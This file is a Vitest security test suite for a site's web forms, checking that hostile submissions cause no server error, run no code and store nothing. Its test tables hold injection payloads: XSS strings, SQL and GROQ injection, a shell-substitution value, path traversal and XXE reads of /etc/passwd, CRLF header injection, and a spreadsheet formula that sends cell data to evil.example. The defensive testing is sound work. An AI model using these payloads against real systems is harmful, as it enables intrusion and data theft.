/** Requests that no browser sends cause no server error, run no code and store nothing partial. */
import {test as base, describe, expect} from 'vitest'
import {ask} from '../../helpers/site/ask.ts'
import {openBrowser, openPage} from '../../helpers/site/open-browser.ts'
import {SITE_ROUTES} from '../../helpers/site/site-routes.ts'
import {type SiteProcess, startSite} from '../../helpers/site/start-site.ts'
import {editorClient} from '../../helpers/studio/editor-client.ts'

const FORMS = {
  '/contact': {name: 'Asha', email: 'asha@clinic.example', message: 'Hello'},
  '/course-register': {
    fullName: 'Ravi',
    email: 'ravi@college.example',
    phoneNumber: '98765',
    highestEducation: 'Other',
  },
  '/referral': {
    yourName: 'Kabir',
    yourNumber: '9876543210',
    clientName: 'City Hospital',
    clientNumber: '9123456780',
    projectType: 'WEB_APP',
    description: 'Bed board',
  },
  '/newsletter': {email: 'reader@clinic.example'},
} as const

/** Paths to which the forms are sent: by a browser without scripts, and by the router. */
const ADDRESSES = Object.keys(FORMS).flatMap((path) => [path, `${path}.data`])
const URLENCODED = 'application/x-www-form-urlencoded'

/** One site for the whole file; the last test checks its log for errors. */
const test = base.extend(
  'site',
  {scope: 'file'},
  // biome-ignore lint/correctness/noEmptyPattern: Vitest reads from it that nothing is needed.
  async ({}, {onCleanup}) => {
    const site = await startSite()
    onCleanup(() => site[Symbol.asyncDispose]())
    return site
  },
)

function post(site: SiteProcess, path: string, init: RequestInit): Promise<Response> {
  return fetch(site.url + path, {method: 'POST', redirect: 'manual', ...init})
}

async function storedContact(site: SiteProcess, email: string) {
  const client = await editorClient(site.url)
  return client.fetch(
    '*[_type == "submission" && contact.email == $email].contact',
    {email},
    {perspective: 'raw'},
  )
}

/** Names of the page's elements that can load or run something, in order. */
function elements(html: string): string[] {
  return html.match(/<(script|img|svg|a|iframe|input|textarea)\b/g) ?? []
}

function escapeHtml(text: string): string {
  const signs: Record<string, string> = {
    '&': '&amp;',
    '<': '&lt;',
    '>': '&gt;',
    '"': '&quot;',
    "'": '&#x27;',
  }
  return text.replace(/[&<>"']/g, (sign) => signs[sign] ?? sign)
}

describe('texts that would be code elsewhere', () => {
  const TEXTS: [kind: string, text: string, kept?: string][] = [
    ['a script', '<script>window.stolen = 1</script>'],
    ['an end of our script', '</script><script>window.stolen = 1</script>'],
    ['an end of our field', '</textarea><img src=x onerror="window.stolen = 1">'],
    ['an end of our attribute', '" autofocus onfocus="window.stolen = 1'],
    ['a drawing', '<svg/onload=window.stolen=1>'],
    ['a comment', '<!--><script>window.stolen = 1</script>-->'],
    ['an escaped script', '&lt;script&gt;window.stolen = 1&lt;/script&gt;'],
    ['an address that runs', 'javascript:window.stolen=1//<a href="javascript:x">'],
    ['a template', `\${window.stolen = 1} {{constructor.constructor('window.stolen=1')()}}`],
    ['an end of our JSON', '"}];window.stolen=1;//\\u003c/script\\u003e'],
    ['SQL', `'; DROP TABLE documents; -- " OR 1=1`],
    ['GROQ', `"] | order(_id) {..., "all": *[_type == "submission"]} // $email`],
    ['a formula', `=HYPERLINK("https://evil.example?x="&A1,"click")`],
    ['a path', '../../../../etc/passwd%00.png'],
    ['a shell', '$(touch /tmp/stolen) `id` ; |& id'],
    ['a format', '%s%n%x {0} %{PATH}'],
    ['a log line', 'x [31m error: fake'],
    ['a mail header', 'Asha\r\nBcc: all@evil.example', 'Asha Bcc: all@evil.example'],
    ['control characters', 'As\0ha\x1b[2J\x7f\x9f!', 'Asha[2J!'],
    ['reversed reading', 'Asha \u202egnp.exe\u202c'],
    ['hidden letters', 'As\u200bha\u2060 \u00adVerma\u{e0061}'],
    ['joined letters', 'क्\u200dष 👩🏽‍⚕️ 🏥'],
    ['letters that look alike', 'Аsһа Ѵеrmа'],
    ['stacked accents', `Z${'\u0353\u0321'.repeat(200)}`],
    ['half a letter', '%ED%A0%80x%ED%BF%BF', '\ufffd\ufffd\ufffdx\ufffd\ufffd\ufffd'],
    ['no letters', '%FF%FE', '\ufffd\ufffd'],
    ['the last letters', 'x\u{10ffff}\ufffe\uffff'],
  ]

  /** Texts that are already percent-encoded stand for bytes that are not valid UTF-8. */
  const encoded = (text: string) => (/^%[EF]/.test(text) ? text : encodeURIComponent(text))
  const body = (email: string, text: string) =>
    `name=${encoded(text)}&email=${encodeURIComponent(email)}&message=${encoded(text)}`
  const headers = {'Content-Type': URLENCODED}

  test.for(TEXTS.map((row, index) => [...row, index] as const))('%s', async (row, {site}) => {
    const [, text] = row
    const index = row[row.length - 1]
    const kept = typeof row[2] === 'string' ? row[2] : text

    const wrong = await post(site, '/contact', {headers, body: body('none', text)})
    const html = await wrong.text()
    expect(wrong.status).toBe(400)
    if (/[<"]/.test(text)) expect(html.includes(text)).toBe(false)
    expect(html.includes(escapeHtml(text)) || kept !== text).toBe(true)
    const plain = await post(site, '/contact', {headers, body: body('none', 'Asha')})
    expect(elements(html)).toEqual(elements(await plain.text()))

    const email = `case-${index}@clinic.example`
    const accepted = await post(site, '/contact', {headers, body: body(email, text)})
    expect(accepted.status).toBe(303)
    const [stored] = await storedContact(site, email)
    expect(stored.name).toBe(kept)
    expect(stored.message.replace(/\n/g, ' ')).toBe(kept)
  })

  test('in a real browser none of them runs, and the page comes to life with them in it', async ({
    site,
  }) => {
    await using browser = await openBrowser()
    const {page, problems, foreignRequests} = await openPage(browser, site.url)
    await page.route('https://www.openstreetmap.org/**', (route) => route.abort())
    const all = TEXTS.map(([, text]) => text).join('\n')
    await page.goto('/contact')
    // Bypasses the form's script, as before it has loaded.
    await page.evaluate((text) => {
      const form = document.querySelector<HTMLFormElement>('main form[action="/contact"]')
      for (const field of form?.querySelectorAll('input:not([type]), textarea') ?? []) {
        if (field instanceof HTMLInputElement || field instanceof HTMLTextAreaElement) {
          field.value = text
        }
      }
      form?.submit()
    }, all)
    await page.getByText('Please check the marked fields').waitFor()
    await page.getByRole('button', {name: 'Send Message'}).click()
    expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
    expect(problems.filter((text) => !/status of 400|ERR_FAILED/.test(text))).toEqual([])
    expect(foreignRequests.filter((url) => !url.includes('openstreetmap'))).toEqual([])
  })
})

describe('bodies that are no form', () => {
  const MEGABYTE = 'x'.repeat(1024 * 1024)
  const multipart = {'Content-Type': 'multipart/form-data; boundary=b'}
  const part = (name: string, text: string) =>
    `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${text}\r\n`
  const BODIES: [kind: string, status: number, init: () => RequestInit][] = [
    ['nothing', 415, () => ({})],
    [
      'JSON',
      415,
      () => ({body: '{"name": {"$ne": 1}}', headers: {'Content-Type': 'application/json'}}),
    ],
    [
      'XML',
      415,
      () => ({
        body: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        headers: {'Content-Type': 'text/xml'},
      }),
    ],
    ['plain text', 415, () => ({body: 'name=Asha', headers: {'Content-Type': 'text/plain'}})],
    ['a type that is none', 415, () => ({body: 'name=Asha', headers: {'Content-Type': ';;,='}})],
    ['an empty form', 400, () => ({body: '', headers: {'Content-Type': URLENCODED}})],
    [
      'wrong percent signs',
      400,
      () => ({
        body: 'name=%&email=%E0%A4%A&%=%zz&message=%u0041',
        headers: {'Content-Type': URLENCODED},
      }),
    ],
    [
      'bytes that are no text',
      400,
      () => ({
        body: new Uint8Array([0, 255, 254, 38, 61, 128]),
        headers: {'Content-Type': URLENCODED},
      }),
    ],
    [
      'another encoding',
      400,
      () => ({body: 'name=Asha', headers: {'Content-Type': `${URLENCODED}; charset=utf-16`}}),
    ],
    [
      'parts without a boundary',
      400,
      () => ({body: part('name', 'Asha'), headers: {'Content-Type': 'multipart/form-data'}}),
    ],
    ['parts that never end', 400, () => ({body: part('name', 'Asha'), headers: multipart})],
    [
      'a part without a name',
      400,
      () => ({body: '--b\r\nX: y\r\n\r\n\r\n--b--\r\n', headers: multipart}),
    ],
    [
      'a name with line breaks',
      400,
      () => ({body: `${part('na"\r\nme', 'x')}--b--\r\n`, headers: multipart}),
    ],
    [
      'files for texts',
      400,
      () => {
        const body = new FormData()
        for (const form of Object.values(FORMS)) {
          for (const name of Object.keys(form)) body.append(name, new File(['x'], '../x.html'))
        }
        return {body}
      },
    ],
    [
      'names of prototypes',
      400,
      () => ({
        body: new URLSearchParams([
          ['__proto__', 'x'],
          ['__proto__[email]', 'x'],
          ['constructor', 'x'],
          ['constructor.prototype.email', 'x'],
          ['toString', 'x'],
          ['hasOwnProperty', 'x'],
        ]),
      }),
    ],
    [
      'lists and objects',
      400,
      () => ({
        body: 'name[]=a&email[$ne]=x&message[0][a]=b&email.x=y',
        headers: {'Content-Type': URLENCODED},
      }),
    ],
    [
      '100 000 fields',
      400,
      () => ({
        body: Array.from({length: 100_000}, (_, n) => n.toString(36)).join('&'),
        headers: {'Content-Type': URLENCODED},
      }),
    ],
    [
      '5000 parts',
      400,
      () => ({
        body: `${Array.from({length: 5000}, () => part('z', '')).join('')}--b--\r\n`,
        headers: multipart,
      }),
    ],
    ['a field of a megabyte', 413, () => ({body: new URLSearchParams({message: MEGABYTE})})],
    ['a name of a megabyte', 413, () => ({body: new URLSearchParams({[MEGABYTE]: 'x'})})],
    [
      'a file of a megabyte',
      413,
      () => {
        const body = new FormData()
        body.append('message', new File([MEGABYTE], 'x'))
        return {body}
      },
    ],
    [
      'a megabyte of unknown length',
      413,
      () => ({
        body: new Blob([MEGABYTE]).stream(),
        headers: {'Content-Type': URLENCODED},
        duplex: 'half',
      }),
    ],
  ]

  test.for(BODIES)('%s: %i from every form', async ([, status, init], {site}) => {
    for (const path of ADDRESSES) {
      const answer = await post(site, path, init())
      expect([path, answer.status]).toEqual([path, status])
      await answer.text()
    }
  })

  test('every action that reads a form refuses a body of another type', async ({site}) => {
    const actions = Object.values(SITE_ROUTES).flatMap((route) =>
      route?.module.action ? [`/${route.path}`] : [],
    )
    expect(actions).toContain('/preview/disable')
    // The path of the view is in the query.
    for (const path of actions.filter((action) => action !== '/page-views')) {
      for (const [kind, status, init] of BODIES.filter(([, expected]) => expected === 415)) {
        const response = await post(site, path, init())
        const expected = path === '/login' ? 400 : status
        expect([path, kind, response.status]).toEqual([path, kind, expected])
      }
      for (const [kind, , init] of BODIES) {
        const {status} = await post(site, path, init())
        expect(status, `${path}, ${kind}`).toBeLessThan(500)
      }
    }
  })

  test('a form that is too large is answered in words', async ({site}) => {
    const answer = await post(site, '/contact', {body: new URLSearchParams({message: MEGABYTE})})
    expect(await answer.text()).toContain('That is more text than we can take at once.')
  })
})

describe('fields that are more or less than asked', () => {
  test('of a repeated field the first counts, and unknown ones are not stored', async ({site}) => {
    const body = new URLSearchParams([
      ['name', 'first'],
      ['name', 'second'],
      ['email', 'repeated@clinic.example'],
      ['email', 'other@clinic.example'],
      ['message', 'Hello'],
      ['_id', 'siteSettings'],
      ['_type', 'siteSettings'],
      ['status', 'handled'],
      ['suspicion', ''],
      ['__proto__', 'x'],
    ])
    expect((await post(site, '/contact', {body})).status).toBe(303)
    const client = await editorClient(site.url)
    const [stored] = await client.fetch(
      '*[_type == "submission" && contact.email == "repeated@clinic.example"]',
      {},
      {perspective: 'raw'},
    )
    expect(stored).toMatchObject({_type: 'submission', status: 'new'})
    expect(stored.contact).toEqual({
      name: 'first',
      email: 'repeated@clinic.example',
      phone: '',
      company: '',
      message: 'Hello',
    })
    expect(({} as Record<string, unknown>).email).toBeUndefined()
  })

  test('each field that is missing is asked for', async ({site}) => {
    for (const [path, form] of Object.entries(FORMS)) {
      for (const name of Object.keys(form)) {
        const rest = Object.entries(form).filter(([key]) => key !== name)
        const answer = await post(site, path, {body: new URLSearchParams(rest)})
        expect([path, name, answer.status]).toEqual([path, name, 400])
        expect(await answer.text()).toContain('aria-invalid="true"')
      }
    }
  })
})

describe('requests that no page makes', () => {
  const READ_ONLY = ['/favicon.ico', '/', '/blog?q=x', '/nothing', '/healthz', '/metrics']
  const ALLOWED = [
    ...ADDRESSES.map((path) => [path, 'GET, HEAD, POST'] as const),
    ...READ_ONLY.map((path) => [path, 'GET, HEAD'] as const),
  ]

  test.for(['PUT', 'PATCH', 'DELETE', 'PROPFIND'])(
    '%s is answered with 405',
    async (method, {site}) => {
      for (const [path, allowed] of ALLOWED) {
        const body = new URLSearchParams({email: 'a@b.example'})
        const answer = await fetch(site.url + path, {method, body})
        expect([path, answer.status, answer.headers.get('Allow')]).toEqual([path, 405, allowed])
      }
    },
  )

  test('OPTIONS is answered with what is allowed, and HEAD as GET without a body', async ({
    site,
  }) => {
    for (const [path, allowed] of ALLOWED) {
      const options = await ask(site.url, path, {}, 'OPTIONS')
      expect([path, options.status, options.headers.allow]).toEqual([path, 204, allowed])
      expect([options.headers['content-length'], options.body.length]).toEqual([undefined, 0])
      const [get, head] = [await ask(site.url, path), await ask(site.url, path, {}, 'HEAD')]
      expect([path, head.status, head.body.length]).toEqual([path, get.status, 0])
      expect(head.headers['content-type']).toBe(get.headers['content-type'])
    }
  })

  test.for([
    '/contact%',
    '/%E0%A4%A',
    '/contact%00',
    '/contact/..%2f..%2fetc%2fpasswd',
    '/contact%0d%0aSet-Cookie:x=y',
    '/contact?sent=%E0%A4%A',
    '/referral?submitted=%3Cscript%3E',
    '/contact?__proto__[x]=y',
    '//evil.example/contact',
  ])('%s is read or posted to without harm', async (path, {site}) => {
    for (const address of [path, path.replace(/(?=\?|$)/, '.data')]) {
      for (const init of [{}, {method: 'POST', body: new URLSearchParams({name: '<i>'})}]) {
        const answer = await fetch(site.url + address, {redirect: 'manual', ...init})
        expect(answer.status).toBeLessThan(500)
        expect(answer.headers.get('Set-Cookie')).toBeNull()
        const isPage = answer.headers.get('Content-Type')?.startsWith('text/html')
        expect((await answer.text()).includes('<i>') && isPage).toBe(false)
      }
    }
  })
})

test('none of this was an error to the server, and nothing but forms came into the inbox', async ({
  site,
}) => {
  expect(site.output()).not.toMatch(/^error:|Unexpected/m)
  const client = await editorClient(site.url)
  const names = await client.fetch(
    'array::unique(*[_type == "submission"].form)',
    {},
    {perspective: 'raw'},
  )
  expect(names).toEqual(['contact'])
  expect((await fetch(`${site.url}/contact`)).status).toBe(200)
})
